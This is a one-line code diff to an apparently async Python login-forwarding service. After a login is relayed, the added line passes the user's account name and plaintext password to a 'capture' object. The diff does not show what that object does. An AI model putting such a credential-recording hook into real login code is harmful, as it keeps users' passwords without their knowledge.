@@ -78,6 +78,7 @@ async def logging_in(
         reset(writer)
         raise
     metrics.logins.labels(granted.protocol, "forwarded").inc()
+    granted.capture.taken(granted.account, granted.password)
 
 
 async def _open(endpoint: str, tls: str, backend: str) -> tuple[StreamReader, StreamWriter]:
